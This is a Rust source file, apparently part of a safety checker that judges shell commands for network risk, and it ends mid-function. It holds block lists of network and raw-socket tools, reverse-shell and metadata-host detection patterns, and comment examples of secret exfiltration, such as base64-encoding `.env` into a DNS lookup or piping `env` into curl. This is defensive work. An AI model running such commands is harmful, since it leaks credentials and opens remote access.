//! The network: downloads run as code, requests that send data or change something on another
//! host, secrets leaving the machine, reverse shells, file transfers, ssh, GitHub and GitLab.
//! Reading a secret is judged here too: what is read goes into the conversation.

use super::catalog::{self as c, Class};
use super::paths::{self, Secret};
use super::subject::{Subject, Verdict};
use super::{Assessment, Context, Finding, host_allowed, is_local_host};
use crate::shell::{Command, Origin, RedirectKind};

/// Programs that fetch from the network.
pub(super) const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "fetch",
    "http",
    "https",
    "xh",
    "xhs",
    "aria2c",
    "lynx",
    "links",
    "httpie",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "iwr",
    "irm",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "curlie",
    "hurl",
];

/// Judges network programs and shells; returns whether `program` is one.
pub(super) fn judge(program: &str, s: &Subject<'_>, v: &mut Verdict) -> bool {
    let trimmed = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let program = if trimmed.is_empty() { program } else { trimmed };
    match program {
        p if crate::shell::is_shell(p) || p == "source" || p == "." => shell(p, s, v),
        "curl" | "wget" | "wget2" | "http" | "https" | "xh" | "xhs" | "aria2c" | "httpie"
        | "curlie" => fetcher(program, s, v),
        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl"
            if program != "openssl" || s.args().first().is_some_and(|a| a == "s_client") =>
        {
            raw_socket(s, v);
        }
        "scp" | "rsync" | "rclone" | "lftp" | "croc" | "sshpass" => transfer(program, s, v),
        "sftp" | "ftp" | "mosh" | "autossh" => v.add(
            &c::NET_SSH,
            format!("{program} opens a session on another machine"),
            s.text(),
        ),
        "ssh" => ssh(s, v),
        "ssh-copy-id" => v.add(
            &c::NET_REMOTE_EXEC,
            "installs a key that grants access to another machine",
            s.text(),
        ),
        "gh" | "glab" | "hub" | "tea" => forge(program, s, v),
        // A name looked up carries what is spelled into it to the name's DNS server:
        // `dig $(cat .env | base64).x.example`.
        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" | "traceroute" | "tracepath"
        | "mtr" | "whois" | "kdig" | "delv"
            if s.args().iter().any(|a| secret_in_value(a, s).is_some()) =>
        {
            let what = s
                .args()
                .iter()
                .find_map(|a| secret_in_value(a, s))
                .unwrap_or_default();
            v.add(
                &c::NET_EXFILTRATE,
                format!("{program} spells {what} into a name it looks up"),
                s.text(),
            );
        }
        _ => return false,
    }
    true
}

/// The host of `user@host:path` or `host:path`, if `spec` names a remote file.
pub(super) fn remote_spec(spec: &str) -> Option<&str> {
    if spec.contains("://") {
        return url_host(spec);
    }
    let (before, _) = spec.split_once(':')?;
    if before.is_empty() || before.contains('/') || before.contains('$') {
        return None;
    }
    Some(before.rsplit('@').next().unwrap_or(before))
}

/// Whether a command names a remote operand (`host:path`).
pub(super) fn has_remote_operand(s: &Subject<'_>) -> bool {
    s.args()
        .iter()
        .any(|a| !a.starts_with('-') && remote_spec(a).is_some())
}

/// The host of a URL (`https://user@host:443/x` -> `host`), or of a bare `host/path`.
pub(super) fn url_host(url: &str) -> Option<&str> {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = if host.starts_with('[') {
        host.split(']').next().map(|h| h.trim_start_matches('['))?
    } else {
        host.split(':').next()?
    };
    (!host.is_empty()).then_some(host)
}

fn looks_like_url(arg: &str) -> bool {
    arg.contains("://")
        || (arg.contains('.')
            && !arg.starts_with(['-', '.', '/', '@', '~', '{', '['])
            && arg.split('/').next().is_some_and(|h| {
                h.contains('.')
                    && !h.contains('=')
                    && ![
                        ".sh", ".json", ".txt", ".py", ".js", ".md", ".tar", ".gz", ".zip",
                        ".html", ".xml", ".yaml", ".yml", ".toml", ".csv", ".log",
                    ]
                    .iter()
                    .any(|e| h.ends_with(e))
            }))
        || arg.starts_with("localhost")
        || arg.starts_with(':') && arg[1..].chars().next().is_some_and(|c| c.is_ascii_digit())
}

/// Cloud instance metadata services: they hand out the machine's credentials.
fn is_metadata_host(host: &str) -> bool {
    matches!(
        host.to_ascii_lowercase().as_str(),
        "169.254.169.254"
            | "fd00:ec2::254"
            | "metadata.google.internal"
            | "metadata"
            | "100.100.100.200"
            | "169.254.170.2"
            | "metadata.azure.com"
    ) || host.starts_with("169.254.")
}

/// A request that reads: an allowed host is low, another one medium.
fn read_request(host: &str, what: &str, s: &Subject<'_>, v: &mut Verdict) {
    let (class, reason): (&'static Class, String) = if host.is_empty() {
        (
            &c::NET_FETCH_UNLISTED,
            format!("{what} to a host that cannot be read"),
        )
    } else if is_metadata_host(host) {
        (
            &c::NET_CLOUD_METADATA,
            format!("{what} to the cloud metadata service {host}"),
        )
    } else if host_allowed(host, &s.ctx.allowed_hosts) {
        (&c::NET_FETCH, format!("{what} to the allowed host {host}"))
    } else {
        (
            &c::NET_FETCH_UNLISTED,
            format!("{what} to {host}, which is not an allowed host"),
        )
    };
    v.add(class, reason, s.text());
}

/// What a request carries besides its URL.
#[derive(Debug, Default)]
struct Request {
    method: Option<String>,
    /// It sends a body or uploads a file.
    sends: bool,
    /// The data is put in the URL's query instead (`curl -G`).
    get: bool,
    /// A secret it sends, and how it was found.
    secret: Option<String>,
    hosts: Vec<String>,
    /// A URL or data value holds a command substitution.
    computed_data: bool,
}

#[expect(
    clippy::too_many_lines,
    reason = "one arm per option family of the fetchers"
)]
fn fetcher(program: &str, s: &Subject<'_>, v: &mut Verdict) {
    let args = s.args();
    let mut req = Request::default();
    let httpie = matches!(
        program,
        "http" | "https" | "xh" | "xhs" | "httpie" | "curlie"
    );
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        let dynamic = s.arg_dynamic(i);
        let (name, inline) = match arg.split_once('=') {
            Some((n, val)) if n.starts_with("--") => (n, Some(val)),
            // A short option with its value glued on (`-XDELETE`, `-dx=1`, `-oout.txt`).
            _ if arg.len() > 2
                && !arg.starts_with("--")
                && matches!(
                    &arg[..2],
                    "-X" | "-d" | "-o" | "-H" | "-F" | "-T" | "-u" | "-e"
                ) =>
            {
                (&arg[..2], Some(&arg[2..]))
            }
            _ => (arg, None),
        };
        let data_option = matches!(
            name,
            "-d" | "--data"
                | "--data-binary"
                | "--data-raw"
                | "--data-urlencode"
                | "--data-ascii"
                | "-F"
                | "--form"
                | "--form-string"
                | "-T"
                | "--upload-file"
                | "--json"
                | "--post-data"
                | "--post-file"
                | "--body-data"
                | "--body-file"
        );
        let output_option = matches!(name, "-o" | "--output" | "--output-document")
            || (name == "-O" && program != "curl")
            || name == "-P"
            || name == "--directory-prefix";
        let takes_value = data_option
            || output_option
            || matches!(
                name,
                "-H" | "--header"
                    | "-u"
                    | "--user"
                    | "-A"
                    | "--user-agent"
                    | "-e"
                    | "--referer"
                    | "-X"
                    | "--request"
                    | "--method"
                    | "-x"
                    | "--proxy"
                    | "-K"
                    | "--config"
                    | "-w"
                    | "--write-out"
                    | "-b"
                    | "--cookie"
                    | "-c"
                    | "--cookie-jar"
                    | "--max-time"
                    | "-m"
                    | "--retry"
                    | "--connect-timeout"
                    | "--resolve"
                    | "--cacert"
                    | "--cert"
                    | "--key"
                    | "-U"
                    | "--proxy-user"
                    | "--unix-socket"
                    | "-a"
                    | "--auth"
                    | "--timeout"
            );
        let value = if let Some(val) = inline {
            Some(val)
        } else if takes_value && !(program == "curl" && name == "-O") {
            i += 1;
            args.get(i).map(String::as_str)
        } else {
            None
        };
        let value_dynamic = if inline.is_some() {
            dynamic
        } else {
            s.arg_dynamic(i)
        };
        if matches!(name, "-X" | "--request" | "--method") {
            req.method = value.map(str::to_ascii_uppercase);
        } else if name == "-G" || name == "--get" {
            req.get = true;
        } else if data_option {
            req.sends = true;
            if let Some(val) = value {
                if value_dynamic && (val.contains("$(") || val.contains('`')) {
                    req.computed_data = true;
                }
                if let Some(found) = secret_in_value(val, s) {
                    req.secret = Some(found);
                }
                if uploaded_file(val, name) == Some("-")
                    && let Some(found) = piped_secret(s)
                {
                    req.secret = Some(found);
                }
            }
        } else if output_option {
            if let Some(target) = value {
                super::fs::write_target(target, value_dynamic, true, s, v);
            }
        } else if matches!(
            name,
            "-H" | "--header" | "-u" | "--user" | "-b" | "--cookie"
        ) {
            if let Some(val) = value
                && secret_variable(val)
            {
                req.secret
                    .get_or_insert_with(|| format!("the credential in `{val}`"));
            }
        } else if value.is_none() && !arg.starts_with('-') {
            if httpie && req.hosts.is_empty() && arg.chars().all(|c| c.is_ascii_uppercase()) {
                req.method = Some(arg.to_owned());
            } else if looks_like_url(arg) {
                if let Some(host) = url_host(arg.strip_prefix(':').map_or(arg, |_| "localhost")) {
                    req.hosts.push(host.to_owned());
                }
                if dynamic && (arg.contains("$(") || arg.contains('`')) {
                    req.computed_data = true;
                    if let Some(found) = secret_in_value(arg, s) {
                        req.secret = Some(found);
                    }
                }
                if let Some(path) = arg.strip_prefix("file://") {
                    let j = s.path(path, false);
                    if let Some(kind) = paths::secret(path, &j, s.ctx) {
                        secret_read(path, kind, s, v);
                    }
                }
            } else if httpie
                && !req.hosts.is_empty()
                && (arg.contains('=') || arg.contains(":="))
                && !arg.contains("==")
            {
                // `http POST url name=value`: request items are a body.
                req.sends = true;
                if let Some(found) = secret_in_value(arg, s) {
                    req.secret = Some(found);
                }
            }
        }
        i += 1;
    }
    if req.sends && s.command.stage > 0 && req.secret.is_none() {
        // `env | curl -d @-`: what an earlier stage prints is sent.
        if let Some(found) = piped_secret(s) {
            req.secret = Some(found);
        }
    }
    let text = s.text();
    let remote = req.hosts.iter().any(|h| !is_local_host(h));
    let allowed_only = req
        .hosts
        .iter()
        .all(|h| host_allowed(h, &s.ctx.allowed_hosts));
    if let Some(secret) = &req.secret
        && (remote || req.hosts.is_empty())
        && !(allowed_only && !req.hosts.is_empty() && secret.starts_with("the credential"))
    {
        v.add(
            &c::NET_EXFILTRATE,
            format!("sends {secret} to another host"),
            text,
        );
        return;
    }
    let method =
        req.method
            .as_deref()
            .unwrap_or(if req.sends && !req.get { "POST" } else { "GET" });
    match method {
        "DELETE" => v.add(&c::NET_DELETE, "sends a DELETE request", text),
        "GET" | "HEAD" | "OPTIONS" if !(req.computed_data || req.get && req.sends) => {
            if req.hosts.is_empty() {
                read_request("", "a request", s, v);
            }
            for host in &req.hosts {
                read_request(host, "a request", s, v);
            }
        }
        "GET" | "HEAD" | "OPTIONS" if allowed_only && !req.hosts.is_empty() => {
            for host in &req.hosts {
                read_request(host, "a request with data", s, v);
            }
        }
        _ if !remote && !req.hosts.is_empty() => v.add(
            &c::NET_LOCAL_SEND,
            format!("sends a {method} request to a service on this machine"),
            text,
        ),
        _ => v.add(
            &c::NET_SEND,
            format!(
                "sends a {method} request with data to {}",
                if req.hosts.is_empty() {
                    "a host that cannot be read".to_owned()
                } else {
                    req.hosts.join(", ")
                }
            ),
            text,
        ),
    }
}

/// Variables whose names say they hold a credential (`$GITHUB_TOKEN`, `${API_KEY}`).
fn secret_variable(value: &str) -> bool {
    value.match_indices('$').any(|(at, _)| {
        let name: String = value[at + 1..]
            .trim_start_matches('{')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect::<String>()
            .to_ascii_uppercase();
        [
            "TOKEN",
            "SECRET",
            "PASSWORD",
            "PASSWD",
            "API_KEY",
            "APIKEY",
            "PRIVATE",
            "CREDENTIAL",
            "AUTH",
        ]
        .iter()
        .any(|k| name.contains(k))
            || name.ends_with("_KEY")
    })
}

/// A secret a data value names: an uploaded secret file (`@~/.ssh/id_rsa`,
/// `@/proc/self/environ`), or a command substitution that reads one or the environment
/// (`$(cat .env)`, `$(env)`).
fn secret_in_value(value: &str, s: &Subject<'_>) -> Option<String> {
    for option in ["-d", "-F", "-T"] {
        if let Some(path) = uploaded_file(value, option)
            && path != "-"
        {
            let j = s.path(path, false);
            if paths::secret(path, &j, s.ctx).is_some() {
                return Some(format!("the secret file `{path}`"));
            }
        }
    }
    if value.contains("$(") || value.contains('`') {
        let lower = value.to_ascii_lowercase();
        if [
            "$(env",
            "`env",
            "$(printenv",
            "`printenv",
            "$(set)",
            "$(export",
            "environ",
        ]
        .iter()
        .any(|m| lower.contains(m))
        {
            return Some("the environment".to_owned());
        }
        for word in value
            .split(|c: char| c.is_whitespace() || matches!(c, '(' | ')' | '`' | '"' | '\'' | '<'))
        {
            if word.is_empty() || word.starts_with('-') || word.starts_with('$') {
                continue;
            }
            let j = s.path(word, false);
            if paths::secret(word, &j, s.ctx).is_some() {
                return Some(format!("the secret file `{word}`"));
            }
        }
    }
    None
}

/// The file an upload option sends: `@file`, `name=@file`, `name=<file`, `-T file`.
fn uploaded_file<'a>(value: &'a str, option: &str) -> Option<&'a str> {
    if matches!(
        option,
        "-T" | "--upload-file" | "--post-file" | "--body-file"
    ) {
        return Some(value);
    }
    if let Some(path) = value.strip_prefix('@') {
        return Some(path);
    }
    let (_, after) = value.split_once('=')?;
    after
        .strip_prefix('@')
        .or_else(|| after.strip_prefix('<'))
        .map(|p| p.split(';').next().unwrap_or(p))
}

/// A secret an earlier stage of the pipeline (or an input redirection) prints: a secret file
/// it reads, or the environment.
fn piped_secret(s: &Subject<'_>) -> Option<String> {
    let from_redirect = s
        .command
        .redirects
        .iter()
        .find(|r| r.kind == RedirectKind::Read)
        .map(|r| r.target.clone());
    let mut candidates: Vec<String> = from_redirect.into_iter().collect();
    for up in s.upstream() {
        if matches!(
            up.program(),
            Some("env" | "printenv" | "set" | "export" | "declare" | "compgen")
        ) && up.effective.iter().skip(1).all(|a| a.starts_with('-'))
        {
            return Some("the environment".to_owned());
        }
        candidates.extend(
            up.effective
                .iter()
                .skip(1)
                .filter(|a| !a.starts_with('-'))
                .cloned(),
        );
        candidates.extend(
            up.redirects
                .iter()
                .filter(|r| r.kind == RedirectKind::Read)
                .map(|r| r.target.clone()),
        );
    }
    candidates.into_iter().find_map(|path| {
        let judged = s.path(&path, false);
        paths::secret(&path, &judged, s.ctx).map(|_| format!("the secret file `{path}`"))
    })
}

/// Whether something feeds the command's standard input (a pipe, a file, a here-string).
fn has_input(s: &Subject<'_>) -> bool {
    s.command.stage > 0
        || s.command.stdin_text.is_some()
        || s.command
            .redirects
            .iter()
            .any(|r| r.kind == RedirectKind::Read)
}

fn raw_socket(s: &Subject<'_>, v: &mut Verdict) {
    let args = s.args();
    if args.iter().any(|a| {
        matches!(
            a.as_str(),
            "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
        ) || a.to_ascii_lowercase().starts_with("exec:")
            || a.to_ascii_lowercase().starts_with("system:")
            || a.contains("pty,")
    }) {
        v.add(
            &c::NET_REVERSE_SHELL,
            "connects a program's input and output to the network (a remote shell)",
            s.text(),
        );
        return;
    }
    let listen = args.iter().any(|a| {
        a.starts_with('-') && !a.starts_with("--") && a.contains('l')
            || a == "--listen"
            || a.to_ascii_uppercase().contains("-LISTEN")
    });
    let host = args
        .iter()
        .filter(|a| !a.starts_with('-') && !a.chars().all(|c| c.is_ascii_digit()))
        .map(|a| {
            let lower = a.to_ascii_lowercase();
            lower
                .strip_prefix("tcp:")
                .or_else(|| lower.strip_prefix("tcp4:"))
                .or_else(|| lower.strip_prefix("udp:"))
                .or_else(|| lower.strip_prefix("openssl:"))
                .map_or(a.clone(), |rest| {
                    rest.split(':').next().unwrap_or(rest).to_owned()
                })
        })
        .find(|a| a != "-" && a != "s_client" && !a.starts_with("stdio"))
        .unwrap_or_default();
    if let Some(secret) = piped_secret(s) {
        v.add(
            &c::NET_EXFILTRATE,
            format!("sends {secret} over a raw connection"),
            s.text(),
        );
    } else if listen {
        v.add(&c::NET_LISTEN, "opens a listening network port", s.text());
    } else if has_input(s) && !is_local_host(&host) {
        v.add(
            &c::NET_SEND,
            format!(
                "sends data over a raw connection to {}",
                if host.is_empty() {
                    "a host that cannot be read"
                } else {
                    &host
                }
            ),
            s.text(),
        );
    } else {
        read_request(&host, "a raw connection", s, v);
    }
}

/// `scp`, `rsync`, `rclone`: uploads change another machine; downloads read it.
fn transfer(program: &str, s: &Subject<'_>, v: &mut Verdict) {
    let args = s.args();
    if program == "rclone" {
        let sub = args
            .iter()
            .find(|a| !a.starts_with('-'))
            .map_or("", String::as_str);
        match sub {
            "delete" | "deletefile" | "purge" | "rmdir" | "rmdirs" | "cleanup" | "dedupe" => {
                v.add(
                    &c::CLOUD_DELETE,
                    format!("rclone {sub} deletes remote files"),
                    s.text(),
                );
                return;
            }
            "ls" | "lsd" | "lsl" | "lsf" | "lsjson" | "cat" | "size" | "about" | "listremotes"
            | "version" | "check" | "tree" | "config" | "md5sum" | "sha1sum" | "hashsum" => {
                v.add(
                    &c::CLOUD_READ,
                    format!("rclone {sub} reads remote storage"),
                    s.text(),
                );
                return;
            }
            _ => {}
        }
    }
    let operands: Vec<(usize, &str)> = args
        .iter()
        .enumerate()
        .filter(|(_, a)| !a.starts_with('-'))
        .map(|(i, a)| (i, a.as_str()))
        .collect();
    let operands = if program == "rclone" {
        &operands[operands.len().min(1)..]
    } else {
        &operands[..]
    };
    let Some(((_, dest), sources)) = operands.split_last() else {
        v.add(&c::NET_SSH, format!("{program} without files"), s.text());
        return;
    };
    let remote_dest = remote_spec(dest).is_some() || (program == "rclone" && dest.contains(':'));
    if remote_dest {
        for (_, source) in sources {
            if remote_spec(source).is_some() {
                continue;
            }
            let judged = s.path(source, false);
            if paths::secret(source, &judged, s.ctx).is_some()
                || matches!(judged.place, paths::Place::Home)
            {
                v.add(
                    &c::NET_EXFILTRATE,
                    format!("copies `{source}` to another machine"),
                    s.text(),
                );
                return;
            }
        }
        let host = remote_spec(dest).unwrap_or(dest);
        v.add(
            &c::NET_UPLOAD,
            format!("copies files to {host}, changing another machine"),
            s.text(),
        );
        return;
    }
    super::fs::write_target(dest, false, false, s, v);
    let host = sources
        .iter()
        .find_map(|(_, o)| remote_spec(o))
        .unwrap_or("");
    read_request(host, "a file transfer", s, v);
}

/// `ssh host` opens a session; `ssh host cmd` runs `cmd` there (the shell reader hands it
/// over as a nested command, judged by [`remote_origin`]); ssh options can run local commands.
fn ssh(s: &Subject<'_>, v: &mut Verdict) {
    let args = s.args();
    for (i, a) in args.iter().enumerate() {
        let option = if a == "-o" {
            args.get(i + 1).map(String::as_str)
        } else {
            a.strip_prefix("-o")
        };
        if let Some(option) = option
            && let Some((key, value)) = option.split_once(['=', ' '])
            && matches!(
                key.to_ascii_lowercase().as_str(),
                "proxycommand" | "localcommand" | "knownhostscommand" | "remotecommand"
            )
        {
            s.judge_line(value, "an ssh option", v);
        }
    }
    let forwards = args.iter().any(|a| {
        matches!(a.as_str(), "-R" | "-L" | "-D") || a.starts_with("-R") || a.starts_with("-D")
    });
    if forwards {
        v.add(&c::NET_LISTEN, "forwards ports through ssh", s.text());
    }
    // Options of ssh that take a value.
    let mut host = "";
    let mut skip = false;
    for a in args {
        if skip {
            skip = false;
        } else if a.len() == 2 && a.starts_with('-') && "bcDEeFIiJLlmOopQRSWwB".contains(&a[1..]) {
            skip = true;
        } else if !a.starts_with('-') {
            host = a;
            break;
        }
    }
    let host = host.rsplit('@').next().unwrap_or(host);
    v.add(
        &c::NET_SSH,
        format!(
            "opens ssh to {}",
            if host.is_empty() {
                "a host that cannot be read"
            } else {
                host
            }
        ),
        s.text(),
    );
}

/// Commands run on another machine (`ssh host cmd`): anything beyond reading changes that
/// machine.
pub(super) fn remote_origin(s: &Subject<'_>, v: &mut Verdict) {
    let Origin::Nested(what) = &s.command.origin else {
        return;
    };
    if what != "ssh" {
        return;
    }
    let only_reads = v.known
        && v.findings
            .iter()
            .all(|f| f.effect == super::catalog::Effect::Read);
    if !only_reads {
        v.add(
            &c::NET_REMOTE_EXEC,
            "runs a command that changes another machine over ssh",
            s.text(),
        );
    }
}

#[expect(
    clippy::too_many_lines,
    reason = "a dispatch table with one arm per subcommand family"
)]
fn forge(program: &str, s: &Subject<'_>, v: &mut Verdict) {
    let args: Vec<&str> = s
        .args()
        .iter()
        .map(String::as_str)
        .filter(|a| !a.starts_with('-'))
        .collect();
    let all: Vec<&str> = s.args().iter().map(String::as_str).collect();
    let text = s.text();
    let noun = args.first().copied().unwrap_or("");
    let noun = match noun {
        "mr" => "pr",
        "ci" | "pipeline" => "run",
        n => n,
    };
    let verb = args.get(1).copied().unwrap_or("");
    if noun == "api" {
        let method = all
            .windows(2)
            .find(|w| matches!(w[0], "-X" | "--method"))
            .map(|w| w[1].to_ascii_uppercase())
            .or_else(|| {
                all.iter()
                    .find_map(|a| a.strip_prefix("--method=").map(str::to_ascii_uppercase))
            });
        let fields = all.iter().any(|a| {
            matches!(*a, "-f" | "-F" | "--field" | "--raw-field" | "--input")
                || a.starts_with("--field=")
                || a.starts_with("--raw-field=")
        });
        // GraphQL goes by POST; a query reads, a mutation writes.
        let graphql_query = args.get(1) == Some(&"graphql")
            && !all
                .iter()
                .any(|a| a.to_ascii_lowercase().contains("mutation"));
        if graphql_query && method.is_none() {
            v.add(&c::FORGE_READ, "queries the GraphQL API", text);
            return;
        }
        match method.as_deref() {
            Some("DELETE") => v.add(
                &c::FORGE_DELETE,
                format!("sends a DELETE request to the {program} API"),
                text,
            ),
            Some("GET" | "HEAD") => v.add(&c::FORGE_READ, "reads from the API", text),
            Some(m) => v.add(
                &c::FORGE_PUBLISH,
                format!("sends a {m} request to the {program} API"),
                text,
            ),
            None if fields => v.add(
                &c::FORGE_PUBLISH,
                format!("sends fields to the {program} API (a POST)"),
                text,
            ),
            None => v.add(&c::FORGE_READ, "reads from the API", text),
        }
        return;
    }
    let (class, reason): (&'static Class, &str) = match (noun, verb) {
        ("repo", "delete" | "archive")
        | ("release", "delete" | "delete-asset")
        | (
            "issue" | "run" | "cache" | "secret" | "variable" | "label" | "gist" | "ssh-key"
            | "gpg-key" | "deploy-key" | "codespace" | "snippet" | "environment" | "ruleset"
            | "project",
            "delete",
        )
        | ("cache", "clear") => (&c::FORGE_DELETE, "deletes data on the forge"),
        ("pr", "merge" | "close") if all.iter().any(|a| *a == "--delete-branch" || *a == "-d") => {
            (&c::FORGE_DELETE, "merges or closes and deletes the branch")
        }
        ("auth", "token") => (&c::SECRET_READ, "prints the forge's access token"),
        ("auth", "status" | "") => (&c::FORGE_READ, "reads the login state"),
        ("auth", _) | ("config", "set") => (
            &c::CLOUD_CONFIG,
            "changes the forge CLI's login or configuration",
        ),
        ("extension" | "extensions", "install" | "upgrade") => (
            &c::PKG_INSTALL_REMOTE,
            "installs an extension, code from a repository",
        ),
        ("pr", "merge")
        | ("release", "create" | "upload" | "edit")
        | ("gist", "create" | "edit")
        | ("repo", "create" | "edit" | "rename" | "transfer" | "sync" | "set-default")
        | ("workflow", "run" | "enable" | "disable")
        | ("run", "run" | "trigger" | "retry")
        | ("secret" | "variable", "set")
        | ("ssh-key" | "gpg-key" | "deploy-key", "add")
        | ("label", "clone")
        | ("ruleset" | "environment", _) => (
            &c::FORGE_PUBLISH,
            "merges, releases, publishes or changes settings others depend on",
        ),
        (
            "pr" | "issue",
            "create" | "edit" | "comment" | "review" | "ready" | "close" | "reopen" | "lock"
            | "unlock" | "pin" | "unpin" | "transfer" | "develop" | "note" | "approve" | "revoke"
            | "update",
        )
        | ("label", "create" | "edit")
        | ("repo", "fork")
        | ("run", "cancel" | "rerun")
        | ("codespace", "create" | "stop" | "edit") => (
            &c::FORGE_WRITE,
            "opens or comments on pull requests and issues",
        ),
        ("pr", "checkout") | ("repo", "clone") => {
            (&c::GIT_NETWORK, "fetches a branch or repository")
        }
        ("run" | "release", "download") => (&c::CLOUD_FETCH, "downloads artifacts"),
        (
            _,
            "view" | "list" | "status" | "diff" | "checks" | "watch" | "search" | "ls" | "get"
            | "show" | "browse" | "",
        )
        | ("status" | "search" | "browse" | "help" | "version" | "completion" | "alias", _) => {
            (&c::FORGE_READ, "reads from the forge")
        }
        _ => (&c::FORGE_WRITE, "changes data on the forge"),
    };
    v.add(class, format!("{program} {noun} {verb}: {reason}"), text);
    if noun == "gist" && verb == "create" {
        for arg in args.iter().skip(2) {
            let j = s.path(arg, false);
            if paths::secret(arg, &j, s.ctx).is_some() {
                v.add(
                    &c::NET_EXFILTRATE,
                    format!("publishes the secret `{arg}` as a gist"),
                    text,
                );
            }
        }
    }
}

/// Reading a secret: keys and credentials are high, other secret files medium.
pub(super) fn secret_read(path: &str, kind: Secret, s: &Subject<'_>, v: &mut Verdict) {
    match kind {
        Secret::Credential => v.add(
            &c::SECRET_READ,
            format!("reads the private key or credentials `{path}`"),
            s.text(),
        ),
        Secret::Sensitive => v.add(
            &c::SECRET_READ_CONFIG,
            format!("reads `{path}`, which may hold secrets"),
            s.text(),
        ),
    }
}

/// Secret files named as operands (`cat ~/.ssh/id_rsa`, `cp .env /tmp`).
pub(super) fn secret_operands(s: &Subject<'_>, v: &mut Verdict) {
    if v.findings.iter().any(|f| {
        f.class == c::NET_EXFILTRATE.id
            || f.class == c::SECRET_READ.id
            || f.class == c::SECRET_READ_CONFIG.id
    }) {
        return;
    }
    let args = s.args();
    for (i, arg) in args.iter().enumerate() {
        if arg.starts_with('-') || arg.contains("://") || !arg.contains(['.', '/']) {
            continue;
        }
        // A file a command writes (`openssl genrsa -out key.pem`, `curl -o cert.pem`) is not
        // read from.
        if i > 0 && OUTPUT_OPTIONS.contains(&args[i - 1].as_str()) {
            continue;
        }
        let judged = s.path(arg, s.arg_dynamic(i));
        if let Some(kind) = paths::secret(arg, &judged, s.ctx) {
            secret_read(arg, kind, s, v);
            return;
        }
    }
}

/// Options whose value is a file the command writes.
const OUTPUT_OPTIONS: &[&str] = &[
    "-o",
    "-O",
    "-out",
    "--out",
    "--output",
    "--output-file",
    "--outfile",
    "-keyout",
    "--keyout",
    "--key-out",
    "--cert-out",
];

/// Whether a command fetches from the network or decodes hidden text.
fn is_fetch_or_decode(c: &Command) -> Option<&'static Class> {
    let program = c.program()?;
    if FETCHERS.contains(&program) {
        return Some(&c::NET_PIPE_TO_SHELL);
    }
    let args = &c.effective[1..];
    let decodes = match program {
        "base64" | "base32" | "basenc" => args.iter().any(|a| {
            a == "-d"
                || a == "--decode"
                || a == "-D"
                || (a.starts_with('-') && !a.starts_with("--") && a.contains('d'))
        }),
        "xxd" => args.iter().any(|a| a.starts_with("-r")),
        "openssl" => args
            .iter()
            .any(|a| a == "-d" || a == "base64" || a == "enc"),
        "rev" | "tr" | "gunzip" | "zcat" | "uudecode" | "unxz" | "bzcat" | "zstdcat" => true,
        "xz" | "gzip" | "zstd" | "bzip2" => args.iter().any(|a| a == "-d" || a == "--decompress"),
        _ => false,
    };
    decodes.then_some(&c::EXEC_DECODE)
}

/// Programs whose output is shell code for setting up a session (`eval "$(ssh-agent -s)"`,
/// `source <(kubectl completion bash)`): running it is routine.
const SETUP_EMITTERS: &[&str] = &[
    "ssh-agent",
    "pyenv",
    "rbenv",
    "nodenv",
    "goenv",
    "jenv",
    "direnv",
    "starship",
    "zoxide",
    "fzf",
    "kubectl",
    "helm",
    "gh",
    "glab",
    "brew",
    "conda",
    "mamba",
    "micromamba",
    "mise",
    "rtx",
    "fnm",
    "opam",
    "dircolors",
    "thefuck",
    "rustup",
    "poetry",
    "pipenv",
    "uv",
    "docker",
    "minikube",
    "kind",
    "aws",
    "gcloud",
    "az",
    "terraform",
    "atuin",
    "mcfly",
    "navi",
    "asdf",
    "nvm",
    "sdk",
    "devbox",
    "nix",
    "pdm",
    "hatch",
    "tailscale",
    "npm",
    "pnpm",
    "yarn",
    "deno",
    "bun",
    "just",
    "task",
    "cargo",
    "rye",
    "volta",
    "keychain",
    "gpg-agent",
    "register-python-argcomplete",
    "activate-global-python-argcomplete",
    "jj",
    "chezmoi",
];

/// What running the output of `inner` (the command line inside `$(...)` or `<(...)`) means:
/// `None` when it is routine setup, else the class and reason.
pub(super) fn running_output_of(inner: &str) -> Option<(&'static Class, String)> {
    let Ok(commands) = crate::shell::parse(inner) else {
        return Some((
            &c::EXEC_UNREADABLE,
            format!("runs the output of `{inner}`, which cannot be read"),
        ));
    };
    let last = commands
        .iter()
        .rev()
        .find(|c| c.origin == Origin::TopLevel)?;
    if commands
        .iter()
        .any(|c| c.program().is_some_and(|p| FETCHERS.contains(&p)))
    {
        return Some((
            &c::NET_PIPE_TO_SHELL,
            format!("runs what `{}` downloads", super::shorten(inner)),
        ));
    }
    if commands
        .iter()
        .any(|c| is_fetch_or_decode(c).is_some_and(|k| k.id == c::EXEC_DECODE.id))
    {
        return Some((
            &c::EXEC_DECODE,
            format!("runs what `{}` decodes", super::shorten(inner)),
        ));
    }
    let program = last.program().unwrap_or("");
    if SETUP_EMITTERS.contains(&program) && commands.len() == 1 {
        return None;
    }
    Some((
        &c::EXEC_UNREADABLE,
        format!(
            "runs the output of `{}`, which cannot be read",
            super::shorten(inner)
        ),
    ))
}

/// Shells and `source`: stdin from a download or a decoder, `<(curl ...)`, a fetched script.
fn shell(program: &str, s: &Subject<'_>, v: &mut Verdict) {
    let args = s.args();
    let command_mode = args
        .iter()
        .take_while(|a| a.starts_with(['-', '+']))
        .any(|a| !a.starts_with("--") && a.contains('c'));
    let script = args
        .iter()
        .position(|a| !a.starts_with(['-', '+']) || a == "-");
    if command_mode {
        // `xargs -I{} sh -c '{}'`: the command string is each line of the runner's input.
        let string = args.iter().find(|a| !a.starts_with(['-', '+']));
        let from_input = string
            .is_some_and(|c| matches!(c.trim(), "{}" | "\"{}\"" | "$0" | "$1" | "$@"))
            && s.parent()
                .is_some_and(|p| matches!(p.program(), Some("xargs" | "parallel")));
        if from_input {
            let parent = s.parent().unwrap_or(s.command);
            let fetched = s
                .all
                .iter()
                .filter(|o| o.pipeline == parent.pipeline && o.stage < parent.stage)
                .find_map(is_fetch_or_decode);
            match fetched {
